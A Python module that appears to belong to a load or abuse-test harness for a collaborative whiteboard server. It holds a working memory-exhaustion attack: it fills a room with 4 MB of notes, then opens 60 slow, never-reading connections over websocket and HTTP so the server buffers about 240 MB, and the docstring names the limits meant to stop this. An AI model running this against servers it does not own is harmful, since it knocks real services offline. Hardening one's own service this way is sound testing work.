"""A large room that many want and nobody reads.

Does: a guest fills a room of its own with 4 MB; 60 connections ask for it, by joining whole or in parts and over HTTP,
    with tiny windows, and never read the answer.
Breaks: a small request makes a large answer, which is kept until it is read: 60 of them are 240 MB.
Limit: `user-reads`, for HTTP until the answer is read; `user-snapshot-bytes`, `snapshot-bytes`; `memory-budget-bytes`.
"""

import asyncio
import os

from lines import Line, event, guest, request

PROOF = "unread rooms"

CONTENT = "x" * 8000
GROUPS, GROUP = 20, 25


async def attack(target):
    room = f"large-{os.urandom(4).hex()}"
    await fill(target, room)
    await asyncio.gather(
        target.crowd(20, join, room, {}), target.crowd(20, join, room, {"parts": True}), target.crowd(20, ask, room)
    )


async def fill(target, room):
    async with await guest(target, room) as line:
        for _ in range(GROUPS):
            elements = [{"type": "note", "id": os.urandom(8).hex(), "content": CONTENT} for _ in range(GROUP)]
            await line.send(event("elements:create", {"roomId": room, "elements": elements}, 5))
            await line.until(rb"435\[", within=10)


async def join(target, room, how):
    async with await guest(target, window=2048) as line:
        await line.send(event("room:join", {"roomId": room, **how}, 1))
        target.tally("unread rooms")
        await target.pause(60)


async def ask(target, room):
    text = request("GET", f"/api/rooms/{room}", f"Authorization: Bearer {target.token}")
    async with await Line.open(target, window=2048) as line:
        await line.send(text)
        target.tally("unread rooms")
        await target.pause(60)
